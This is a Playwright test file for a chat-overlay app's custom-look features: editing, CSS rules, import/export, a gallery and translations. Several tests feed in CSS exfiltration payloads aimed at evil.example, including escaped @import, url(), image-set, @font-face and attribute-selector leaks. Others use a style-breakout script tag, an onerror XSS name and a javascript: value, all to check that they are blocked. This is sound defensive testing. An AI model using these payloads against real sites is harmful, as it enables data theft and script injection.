/** Looks of one's own: made, changed, worn, given away and taken, and what strangers' rules and files cannot do. */

import { readFile } from "node:fs/promises";
import { fileURLToPath } from "node:url";
import type { BrowserContext, Page } from "@playwright/test";
import { card, drawer, expect, kept, test } from "./control";
import { desktopOf, openDesktop } from "./control-desktop";
import { author, chat } from "./frames";
import { pictures } from "./lively";
import type { ScriptedServer } from "./scripted-server";

test.use({ permissions: ["clipboard-read", "clipboard-write"] });
test.beforeEach(({ page }) => pictures(page));

const GENERATOR = fileURLToPath(new URL("./generator.css", import.meta.url));
const main = (server: ScriptedServer) => server.kept.saved.overlays[0]!;
const looks = (server: ScriptedServer) => server.kept.saved.looks;
const preview = (page: Page) => page.frameLocator(".preview iframe");
const rules = (page: Page) => drawer(page).getByRole("textbox", { name: /^CSS of/ });
const report = (page: Page) => drawer(page).getByRole("status").filter({ hasText: /rule/ });
const radio = (page: Page, name: string) => drawer(page).getByRole("radio", { name, exact: true });

/** The overlay as OBS has it, with a message, and what it asked others for. */
async function overlay(context: BrowserContext, server: ScriptedServer, address = "/overlay/main"): Promise<{ page: Page; asked: string[] }> {
	const page = await context.newPage();
	const asked: string[] = [];
	await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
		asked.push(route.request().url());
		return route.abort();
	});
	const before = server.subscribes().length;
	await page.goto(server.origin + address);
	await expect.poll(() => server.subscribes().length).toBeGreaterThan(before);
	server.socket.send(chat(author("Ana"), "hello"));
	await expect(page.locator("#message").first()).toHaveText("hello");
	return { page, asked };
}

async function duplicate(page: Page, of: string) {
	await radio(page, of).check({ force: true });
	await drawer(page).getByRole("button", { name: "Duplicate to edit" }).click();
	await expect(drawer(page).getByRole("radio", { checked: true, name: `${of} copy` })).toBeAttached();
}

/** Opens the part with rules, and puts some there. */
async function write(page: Page, css: string) {
	await drawer(page).getByText("CSS", { exact: true }).click();
	await rules(page).fill(css);
}

async function choose(page: Page, name: string) {
	await drawer(page).getByRole("button", { name: /^What to do with/ }).click();
	await page.getByRole("menuitem", { name }).click();
}

test("a look is duplicated and changed, and the overlay that is open in OBS changes with it, without a reload", async ({ page, context, server, control }) => {
	await control(kept("twitch", "luna"));
	const obs = await overlay(context, server);
	await obs.page.evaluate(() => Object.assign(window, { before: true }));
	await drawer(page).getByRole("slider", { name: "Text size" }).fill("26");
	await expect.poll(() => main(server).values).toEqual({ fontSize: 26 });
	await duplicate(page, "Neon");
	await expect.poll(() => main(server)).toMatchObject({ look: "neon-copy", values: {} });
	expect(looks(server)).toEqual([{ id: "neon-copy", name: "Neon copy", base: "neon", values: { fontSize: 26 }, css: "" }]);
	await expect(obs.page.locator("html")).toHaveAttribute("data-look", "neon-copy");
	await expect(obs.page.locator("#message").first(), "the rules of Neon").toHaveCSS("color", "rgb(246, 243, 255)");

	await drawer(page).getByText("Everything else").click();
	await drawer(page).getByRole("slider", { name: "Text size" }).fill("40");
	await drawer(page).getByRole("combobox", { name: "Outline" }).selectOption("Thick");
	await drawer(page).getByRole("combobox", { name: "Weight" }).selectOption("Very bold");
	await expect.poll(() => looks(server)[0]?.values).toEqual({ fontSize: 40, outline: "thick", weight: "800" });
	expect(main(server), "the overlay itself has nothing to be changed").toMatchObject({ look: "neon-copy", values: {} });
	const message = obs.page.locator("yt-live-chat-text-message-renderer").first();
	await expect(message).toHaveCSS("font-size", "40px");
	await expect(message).toHaveCSS("font-weight", "800");
	await expect.poll(() => message.evaluate((e) => getComputedStyle(e).textShadow.split("rgb").length)).toBeGreaterThan(10);
	await expect(preview(page).locator("html")).toHaveAttribute("data-look", "neon-copy");
	expect(await obs.page.evaluate(() => "before" in window), "in place").toBe(true);
	expect(new URL(obs.page.url()).pathname, "the link stays").toBe("/overlay/main");

	await drawer(page).getByRole("combobox", { name: "Made of" }).selectOption("Bubbles");
	await expect(obs.page.locator("html")).toHaveAttribute("data-bubble", "");
	await drawer(page).getByRole("button", { name: "Text size: as the look has it" }).click();
	await expect.poll(() => looks(server)[0]?.values).toEqual({ outline: "thick", weight: "800" });
	await page.reload();
	await expect(radio(page, "Neon copy")).toBeChecked();
});

test("a look is renamed, and deleted after it was said who wears it and what they wear then", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Glass");
	server.kept.saved.overlays = [...server.kept.saved.overlays, { ...main(server), name: "side", look: "glass-copy" }];
	server.news();
	await choose(page, "Rename");
	const dialog = page.getByRole("dialog");
	await dialog.getByRole("textbox").fill("  ");
	await page.keyboard.press("Enter");
	await expect(dialog.getByRole("alert")).toHaveText("Type a name.");
	await dialog.getByRole("textbox").fill("私のガラス");
	await page.keyboard.press("Enter");
	await expect(radio(page, "私のガラス")).toBeChecked();
	await expect.poll(() => looks(server)).toMatchObject([{ id: "glass-copy", name: "私のガラス" }]);
	await duplicate(page, "私のガラス");
	await choose(page, "Delete");
	await expect(dialog).toContainText("One overlay wears it and goes back to Glass: main.");
	await dialog.getByRole("button", { name: "Cancel" }).click();
	await radio(page, "私のガラス").check({ force: true });
	await choose(page, "Delete");
	await expect(dialog).toContainText("2 overlays wear it and go back to Glass: main, side.");
	await dialog.getByRole("button", { name: "Delete" }).click();
	await expect(radio(page, "Glass")).toBeChecked();
	await expect(radio(page, "私のガラス")).toHaveCount(0);
	expect(server.kept.saved.overlays.map((o) => o.look)).toEqual(["glass", "glass"]);
	const asked = server.kept.asked.length;
	await page.keyboard.press("Control+z");
	await page.waitForTimeout(600);
	expect(server.kept.asked.slice(asked), "what is deleted is not worn again").toEqual([]);
});

test("every setting of the schema can be found, and changes are undone and redone by keys", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Classic");
	await drawer(page).getByText("Everything else").click();
	const fields = () => drawer(page).locator("[data-setting]").evaluateAll((all) => all.map((e) => (e as HTMLElement).dataset.setting));
	const { LOOK_SCHEMA } = await import("../src/lib/bindings/LookSchema");
	expect((await fields()).sort()).toEqual(LOOK_SCHEMA.filter((c) => c.id !== "css" && !(c.type === "text" && c.form === "lines")).map((c) => c.id).sort());
	const search = drawer(page).getByRole("searchbox", { name: "Find a setting" });
	await search.fill("emote");
	expect((await fields()).sort()).toEqual(["bigEmotes", "emoteScale", "stillEmotes"]);
	await search.fill("no such thing");
	await expect(drawer(page).getByText("No setting is called so.")).toBeVisible();
	await search.fill("");

	const values = () => looks(server)[0]?.values;
	await drawer(page).getByRole("switch", { name: "One row" }).check();
	await expect(drawer(page).locator('[data-setting="alignRight"]'), "makes no sense then").toHaveCount(0);
	const size = drawer(page).getByRole("slider", { name: "Text size" });
	for (const to of ["24", "28", "32"]) await size.fill(to);
	await expect.poll(values).toEqual({ horizontal: true, fontSize: 32 });
	await page.keyboard.press("Control+z");
	await expect.poll(values, "a hand on a slider is one step").toEqual({ horizontal: true });
	await page.keyboard.press("Control+z");
	await expect.poll(values).toEqual({});
	await page.keyboard.press("Control+Shift+z");
	await page.keyboard.press("Control+Shift+Z");
	await expect.poll(values).toEqual({ horizontal: true, fontSize: 32 });
	await expect(drawer(page).getByRole("button", { name: "Redo (Ctrl+Shift+Z)" })).toBeDisabled();
	await drawer(page).getByRole("button", { name: "Undo (Ctrl+Z)" }).click();
	await expect.poll(values).toEqual({ horizontal: true });
	await search.fill("x");
	await page.keyboard.press("Control+z");
	await expect.poll(values, "a field of words takes back its own letters").toEqual({ horizontal: true });
});

test("rules apply at once, win against the look without a strong word, and lose to those of OBS", async ({ page, context, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Neon");
	const obs = await overlay(context, server);
	await obs.page.addStyleTag({ content: "#message { letter-spacing: 5px }" });
	await write(page, "#message { color: rgb(1, 2, 3); letter-spacing: 2px }\n#message { colour: red }\n#nothing-like-this, #message!! { color: red }\nbody { content: '</style><script>alert(1)</script>' }");
	const message = obs.page.locator("#message").first();
	await expect(message).toHaveCSS("color", "rgb(1, 2, 3)");
	await expect(message, "as OBS has it").toHaveCSS("letter-spacing", "5px");
	await expect(preview(page).locator("#message").first()).toHaveCSS("color", "rgb(1, 2, 3)");
	await expect(report(page)).toContainText("Line 2 “colour: red” is not understood.");
	await expect(report(page)).toContainText("Line 3 “#message!!” is not a selector.");
	await expect(report(page)).toContainText("One selector finds nothing here");
	await expect(report(page)).toContainText("Line 3 #nothing-like-this");
	await expect(report(page)).not.toContainText("“color");
	expect(await obs.page.locator("script:not([src])").count(), "what ends a style is text").toBe(0);
	expect(looks(server)[0]?.css).toContain("</style>");
	await page.screenshot({ path: "test-results/control/look-css.png" });
	await rules(page).fill("#message { color: rgb(9, 9, 9)");
	await expect(report(page)).toContainText("never closed");
	await expect(message).toHaveCSS("color", "rgb(9, 9, 9)");
	await rules(page).fill(`#message { color: rgb(8, 8, 8) }${" ".repeat(70_000)}`);
	await expect(drawer(page).getByRole("alert")).toHaveText("These are more than 64 KiB. The rest was not taken.");
	await expect.poll(() => looks(server)[0]?.css.length).toBe(64 * 1024);
	await rules(page).fill("");
	await expect(report(page)).toContainText("No rules yet.");
	await expect(message).toHaveCSS("color", "rgb(246, 243, 255)");
});

test("an overlay in a look that comes with Polychat has rules of its own, which go along when it is duplicated", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await radio(page, "Glass").check({ force: true });
	await write(page, "#message { color: red }");
	await expect.poll(() => main(server)).toMatchObject({ look: "glass", values: { css: "#message { color: red }" } });
	await drawer(page).getByRole("button", { name: "Duplicate to edit" }).click();
	await expect.poll(() => main(server)).toMatchObject({ look: "glass-copy", values: {} });
	expect(looks(server)[0]?.css).toBe("#message { color: red }");
	await expect(rules(page)).toHaveValue("#message { color: red }");
});

/** Ways to be asked for something. */
const FETCHES = [
	"@import url(https://evil.example/1.css);", "@im\\70ort 'https://evil.example/2.css';", "body { background: url(https://evil.example/3) }", "body { background: u\\72l('https://evil.example/4') }",
	":root { --a: url(https://evil.example/5); --b: 'https://evil.example/6' } #message { background: var(--a), image-set(var(--b) 1x) }", "#message { background: -webkit-image-set(url(https://evil.example/7) 1x) }",
	"@font-face { font-family: 'Evil'; src: url(https://evil.example/8.woff2) } * { font-family: Evil !important }", '[data-username^="a"] { list-style: url(//evil.example/9); display: list-item; cursor: url(https://evil.example/10), auto }',
	"#message::after { content: url('https://evil.example/11') }", "@property --c { syntax: '<image>'; inherits: false; initial-value: url(https://evil.example/12) } #content { background: var(--c) }", "#message { filter: url(https://evil.example/13#a); mask: url(https://evil.example/14) }",
	"body { background: url(/api/saved) }",
];

test("rules of strangers ask nobody for anything, on the overlay and in the preview, and that is said", async ({ page, context, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Classic");
	const obs = await overlay(context, server);
	const own: string[] = [];
	for (const there of [page, obs.page]) there.on("request", (request) => new URL(request.url()).pathname === "/api/saved" && request.method() === "GET" && own.push(request.url()));
	await write(page, `${FETCHES.join("\n")}\n#message { color: rgb(7, 7, 7) }`);
	await expect(obs.page.locator("#message").first(), "the rest applies").toHaveCSS("color", "rgb(7, 7, 7)");
	await expect(preview(page).locator("#message").first()).toHaveCSS("color", "rgb(7, 7, 7)");
	await expect(report(page)).toContainText("Line 1 https://evil.example/1.css is not fetched.");
	await expect(report(page)).toContainText("image-set() is not used");
	// The same as the overlay's own rules, which may come from a file of everything.
	main(server).values = { css: FETCHES.join("\n") };
	server.news();
	server.socket.send(chat(author("Bo"), "again"));
	await expect(obs.page.locator("#message")).toHaveCount(2);
	await obs.page.waitForTimeout(1_000);
	// The page's own fixture fails the test for what the preview asks for.
	expect([...obs.asked, ...own]).toEqual([]);
	expect(await page.evaluate(() => getComputedStyle(document.body).backgroundImage), "and nothing reaches this page").toBe("none");
});

test("a page around an overlay cannot make it tell what is said", async ({ context, server }) => {
	const page = await context.newPage();
	const asked: string[] = [];
	await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => {
		asked.push(route.request().url());
		return route.abort();
	});
	// The overlay cannot tell a page of ours from another one around it.
	await page.route(`${server.origin}/around`, (route) => {
		return route.fulfill({ contentType: "text/html", body: `<iframe src="${server.origin}/overlay/main?twitch=luna&css=${encodeURIComponent("#message { background: url(https://evil.example/leak); color: rgb(1, 1, 1) }")}"></iframe>` });
	});
	await page.goto(`${server.origin}/around`);
	await expect.poll(() => server.subscribes().length).toBe(1);
	server.socket.send(chat(author("Ana"), "hello"));
	await expect(page.frameLocator("iframe").locator("#message")).toHaveCSS("color", "rgb(1, 1, 1)");
	await page.waitForTimeout(500);
	expect(asked).toEqual([]);
});

test("CSS of a generator for YouTube's chat is recognised, works, and what finds nothing is listed", async ({ page, context, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Bubbles");
	const obs = await overlay(context, server);
	await drawer(page).getByText("CSS", { exact: true }).click();
	await page.evaluate((css) => navigator.clipboard.writeText(css), await readFile(GENERATOR, "utf8"));
	await drawer(page).getByRole("button", { name: "Paste CSS" }).click();
	await expect(report(page)).toContainText("This is CSS for YouTube’s chat.");
	for (const font of ["Changa One", "Imprima", "M PLUS Rounded 1c"]) await expect(report(page)).toContainText(`The font ${font} is not fetched. It is used if this computer has it.`);
	await expect(report(page)).toContainText("https://img.example/frame.png is not fetched.");
	const lost = [":host", "yt-live-chat-header-renderer", "#input-panel.yt-live-chat-renderer", "yt-live-chat-text-message-renderer[is-deleted]", "yt-live-chat-legacy-paid-message-renderer"];
	await expect(report(page)).toContainText(`${lost.length} selectors find nothing here`);
	for (const selector of lost) await expect(report(page)).toContainText(selector);
	await page.screenshot({ path: "test-results/control/look-generator.png" });
	await expect(report(page)).toContainText("Bubbles has rules of its own.");
	await drawer(page).getByRole("button", { name: "Make it of Classic" }).click();
	await expect.poll(() => looks(server)[0]?.base).toBe("classic");
	const name = obs.page.locator("#author-name").first();
	await expect(name).toHaveCSS("color", "rgb(204, 204, 204)");
	await expect(obs.page.locator("#message").first()).toHaveCSS("color", "rgb(255, 238, 221)");
	await expect(obs.page.locator("yt-live-chat-text-message-renderer").first()).toHaveCSS("animation-name", "anim");
	expect(obs.asked).toEqual([]);
});

test("a jChat link becomes a look and a channel, and what has no counterpart is listed first", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await drawer(page).getByRole("switch", { name: "Overlay" }).waitFor({ state: "detached" });
	await drawer(page).getByRole("slider", { name: "Text size" }).fill("60");
	await drawer(page).getByRole("button", { name: "Import a look" }).click();
	const dialog = page.getByRole("dialog");
	await dialog.getByRole("textbox").fill("https://www.twitch.tv/nova");
	await page.keyboard.press("Enter");
	await expect(dialog.getByRole("alert")).toContainText("This is no link of jChat.");
	await dialog.getByRole("textbox").fill("https://www.giambaj.it/twitch/jchat/v2/?channel=Nova&size=2&font=5&stroke=3&fade=30&hide_commands=true&animate=true&center=true&size=2");
	await dialog.getByRole("button", { name: "Read" }).click();
	await expect(dialog.getByRole("status")).toContainText("jChat of Nova, made of Classic");
	await expect(dialog.getByRole("status")).toContainText("Channels to follow: nova.");
	await expect(dialog.getByRole("listitem")).toHaveText(["The font Source Code Pro is used if this computer has it.", "center has no counterpart here."]);
	await page.screenshot({ path: "test-results/control/look-jchat.png" });
	await dialog.getByRole("button", { name: "Take it" }).click();
	await expect(radio(page, "jChat of Nova")).toBeChecked();
	await expect(card(page, "nova")).toBeVisible();
	await expect.poll(() => main(server)).toMatchObject({ look: "jchat-of-nova", values: {} });
	expect(looks(server)).toMatchObject([{ base: "classic", values: { fontSize: 34, outline: "thick", hideAfter: 30, prefixes: "!" } }]);
	expect(await preview(page).locator("html").evaluate((e) => e.style.getPropertyValue("--size"))).toBe("34px");
});

test("a look goes into a file and comes out of it as it was", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Terminal");
	await drawer(page).getByRole("slider", { name: "Text size" }).fill("22");
	await write(page, "#message { color: red } /* 字 </style> */");
	await expect.poll(() => looks(server)[0]).toMatchObject({ values: { fontSize: 22 }, css: "#message { color: red } /* 字 </style> */" });
	const download = page.waitForEvent("download");
	await choose(page, "Save as a file");
	const file = await download;
	expect(file.suggestedFilename()).toBe("terminal-copy.polychat-look.json");
	await expect(drawer(page).getByText("Written to your downloads.")).toBeVisible();
	const path = await file.path();
	const { id: _, ...before } = looks(server)[0]!;
	await drawer(page).getByRole("button", { name: "Import a look" }).click();
	const dialog = page.getByRole("dialog");
	const chooser = page.waitForEvent("filechooser");
	await dialog.getByRole("button", { name: "Choose a file" }).click();
	await (await chooser).setFiles({ name: "x.polychat-look.json", mimeType: "application/json", buffer: await readFile(path) });
	await expect(dialog.getByRole("status")).toContainText("Terminal copy, made of Terminal");
	await expect(dialog.getByRole("listitem")).toHaveCount(0);
	await dialog.getByRole("button", { name: "Take it" }).click();
	await expect.poll(() => looks(server).length).toBe(2);
	const { id, ...after } = looks(server)[1]!;
	expect([id, after]).toEqual(["terminal-copy-2", before]);
	await expect.poll(() => main(server).look).toBe("terminal-copy-2");
});

test("in the desktop program a look is saved where the person says", async ({ page, server }) => {
	const behind = await openDesktop(page, server, desktopOf(server), kept("twitch", "luna"));
	await duplicate(page, "Neon");
	await choose(page, "Save as a file");
	await expect(drawer(page).getByText("Written to Documents/neon-copy.polychat-look.json.")).toBeVisible();
	const [, asked] = behind.asked.find(([command]) => command === "save_text")!;
	expect(JSON.parse((asked as { text: string }).text)).toEqual({ polychatLook: 1, name: "Neon copy", base: "neon", values: {}, css: "" });
});

test("a stranger's file is taken as far as it can be, and what cannot is listed", async ({ page, server, control }) => {
	await control(kept("twitch", "luna"));
	await drawer(page).getByRole("button", { name: "Import a look" }).click();
	const dialog = page.getByRole("dialog");
	const give = async (text: string) => {
		const chooser = page.waitForEvent("filechooser");
		await dialog.getByRole("button", { name: "Choose a file" }).click();
		await (await chooser).setFiles({ name: "look.json", mimeType: "application/json", buffer: Buffer.from(text) });
	};
	await give("no look at all");
	await expect(dialog.getByRole("alert")).toHaveText("This is not a look that Polychat has saved.");
	await give('{"polychatLook":9}');
	await expect(dialog.getByRole("alert")).toContainText("newer Polychat");
	const css = "@import 'https://evil.example/a.css'; body { background: url(https://evil.example/b) } #message { color: rgb(3, 3, 3) }";
	await give(JSON.stringify({ polychatLook: 1, name: "<img src=x onerror=alert(1)>", base: "aurora", values: { fontSize: 5_000, plate: "javascript:alert(1)", shine: "<b>", limit: 7 }, css }));
	await expect(dialog.getByRole("listitem")).toHaveText([
		"It was made of “aurora”, which this Polychat has not. It is made of Classic.", "Text size: 5000 became 96.", "Plate: javascript:alert(1) is not possible.", "“shine” is no setting of this Polychat.",
		"https://evil.example/a.css is not fetched.", "https://evil.example/b is not fetched.",
	]);
	await page.screenshot({ path: "test-results/control/look-import.png" });
	await dialog.getByRole("button", { name: "Take it" }).click();
	await expect(radio(page, "<img src=x onerror=alert(1)>")).toBeChecked();
	await expect(preview(page).locator("#message").first()).toHaveCSS("color", "rgb(3, 3, 3)");
	expect(looks(server)[0]?.values).toEqual({ fontSize: 96, limit: 7 });
});

test("the gallery has own looks, and follows their changes", async ({ page, context, server, control }) => {
	await control(kept("twitch", "luna"));
	await duplicate(page, "Neon");
	const gallery = await context.newPage();
	await gallery.goto(`${server.origin}/looks?twitch=luna`);
	const own = gallery.getByRole("list", { name: "Looks" }).getByRole("listitem").filter({ hasText: "Yours" });
	await expect(own.getByRole("heading")).toHaveText("Neon copy");
	await expect(own.getByRole("textbox")).toHaveValue(/\?twitch=luna&look=neon-copy$/);
	await own.scrollIntoViewIfNeeded();
	const inside = own.frameLocator("iframe");
	await expect(inside.locator("html")).toHaveAttribute("data-look", "neon-copy");
	await expect(inside.locator("#message").first()).toBeAttached();
	await write(page, "#message { color: rgb(5, 5, 5) }");
	await expect(inside.locator("#message").first()).toHaveCSS("color", "rgb(5, 5, 5)");
	// Its link shows it, whatever the overlay wears.
	await radio(page, "Classic").check({ force: true });
	const obs = await overlay(context, server, "/overlay/main?twitch=luna&look=neon-copy");
	await expect(obs.page.locator("#message").first()).toHaveCSS("color", "rgb(5, 5, 5)");
	await gallery.close();
});

test("everything is there in the light, on a narrow page and in Indonesian", async ({ browser, server }) => {
	server.kept.saved.looks = [
		{ id: "long", name: "Tampilan dengan nama yang sangat panjang sekali, lebih panjang", base: "glass", values: { fontSize: 24 }, css: "#message { color: red; colr: red }" },
		{ id: "arabic", name: "مظهر الدردشة", base: "neon", values: {}, css: "" },
		{ id: "cjk", name: "私のチャットの見た目", base: "bubbles", values: {}, css: "" },
	];
	server.kept.saved.overlays[0]!.look = "long";
	server.kept.saved.channels = [kept("twitch", "luna")];
	for (const [locale, colorScheme, deviceScaleFactor] of [["id-ID", "light", 1.5], ["en-US", "dark", 1.5]] as const) {
		const context = await browser.newContext({ locale, colorScheme, deviceScaleFactor, viewport: { width: 1280, height: 1500 } });
		const page = await context.newPage();
		await pictures(page);
		await page.goto(server.origin);
		await expect(preview(page).locator("#message").first()).toBeAttached();
		await page.waitForTimeout(1_500);
		await page.locator("summary").click();
		await page.locator(".drawer").screenshot({ path: `test-results/control/look-${colorScheme}.png` });
		await page.getByText("CSS", { exact: true }).click();
		await page.waitForTimeout(1_000);
		await page.locator(".drawer").screenshot({ path: `test-results/control/look-${colorScheme}-css.png` });
		if (locale === "id-ID") {
			await expect(page.getByText("Duplikat untuk diedit")).toBeVisible();
			await page.goto(`${server.origin}/looks`);
			await expect(page.getByRole("heading", { name: "Pilih tampilan chat kamu" })).toBeVisible();
			for (const look of ["ticker", "arabic", "cjk", "long"]) {
				await page.locator(`[data-look="${look}"]`).scrollIntoViewIfNeeded();
				await expect(page.frameLocator(`[data-look="${look}"] iframe`).locator("#items > *").nth(2)).toBeAttached();
			}
			await page.waitForTimeout(500);
			await page.screenshot({ path: "test-results/looks/gallery-id.png", fullPage: true });
		}
		await context.close();
	}
});
